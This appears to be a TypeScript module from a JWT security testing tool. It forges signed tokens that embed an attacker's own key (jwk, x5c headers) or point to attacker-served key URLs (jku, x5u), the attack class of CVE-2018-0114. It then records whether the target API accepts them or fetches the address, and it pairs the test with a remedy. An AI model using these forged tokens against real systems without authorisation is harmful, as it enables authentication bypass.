/** T6: the key that the token itself brings or points to (RFC 7515 sections 4.1.2 to 4.1.6; CVE-2018-0114). */
import { createPublicKey, generateKeyPairSync } from 'node:crypto';
import type { KeyObject } from 'node:crypto';
import type { Attack, Probe, Scene } from '../attack.ts';
import { selfSignedCertificate } from '../certificate.ts';
import { forge, keySigner } from '../forge.ts';
import { tokenProbe } from '../probes.ts';
import type { FetchTrap } from '../wire/fetch-trap.ts';

export const keyFromToken: Attack = {
  id: 'T6',
  title: 'key brought by the token',
  why: 'An attacker signs with a key of their own and hands it over; an address in a token makes the API fetch what it is told to.',
  mend: 'Take keys only from configuration; ignore or refuse "jwk", "jku", "x5c" and "x5u".',
  severity: 'critical',
  forges: true,
  probes: (scene) => {
    const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const jwk = {
      ...createPublicKey(privateKey).export({ format: 'jwk' }),
      kid: 'sealgate-attack',
      alg: 'ES256',
      use: 'sig',
    };
    const certificate = selfSignedCertificate(privateKey, scene.nowSeconds);
    const x5c = [certificate.toString('base64')];
    const embedded = (name: string, header: object) => tokenProbe(name, signed(scene, privateKey, header));
    return [
      embedded('jwk: the attacker’s key', { jwk }),
      embedded('jwk, and its kid', { jwk, kid: jwk.kid }),
      embedded('x5c: the attacker’s certificate', { x5c }),
      ...(scene.trap === undefined ? [] : fetching(scene, scene.trap, privateKey, jwk, certificate)),
    ];
  },
};

function signed({ subject }: Scene, key: KeyObject, header: object): string {
  const signer = keySigner('ES256', key);
  if (signer === undefined) throw new TypeError('an EC key signs ES256');
  return forge({ ...subject.header, alg: 'ES256', ...header }, subject.claims, signer);
}

function fetching(
  scene: Scene,
  trap: FetchTrap,
  key: KeyObject,
  jwk: { readonly kid: string },
  certificate: Buffer,
): readonly Probe[] {
  const pem = `-----BEGIN CERTIFICATE-----\n${certificate.toString('base64')}\n-----END CERTIFICATE-----\n`;
  trap.serve('jku', 'application/json', JSON.stringify({ keys: [jwk] }));
  trap.serve('jku-same-kid', 'application/json', JSON.stringify({ keys: [{ ...jwk, kid: scene.subject.header.kid }] }));
  trap.serve('x5u', 'application/pem-certificate-chain', pem);
  const probe = (page: string, header: object): Probe => {
    const { name, attempt } = tokenProbe(`${page}: an address of the attacker`, signed(scene, key, header));
    return {
      name,
      async attempt(lab) {
        const tried = await attempt(lab);
        if (tried.outcome === 'accepted' || !trap.wasFetched(page)) return tried;
        return { outcome: 'accepted', note: 'refused in the end, but the address was fetched' };
      },
    };
  };
  return [
    probe('jku', { jku: trap.urlFor('jku'), kid: jwk.kid }),
    probe('jku-same-kid', { jku: trap.urlFor('jku-same-kid') }),
    probe('x5u', { x5u: trap.urlFor('x5u') }),
  ];
}
